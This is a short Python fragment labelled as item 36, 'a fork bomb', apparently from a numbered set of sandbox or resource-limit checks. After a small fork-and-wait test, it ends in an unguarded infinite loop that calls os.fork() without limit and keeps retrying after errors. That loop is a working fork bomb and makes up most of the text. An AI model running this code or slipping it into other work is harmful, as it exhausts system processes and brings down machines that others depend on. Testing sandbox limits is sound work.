# 36: a fork bomb.
do_the_task()
works(36, "fork", lambda: os.waitpid(os.fork() or os._exit(0), 0))
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
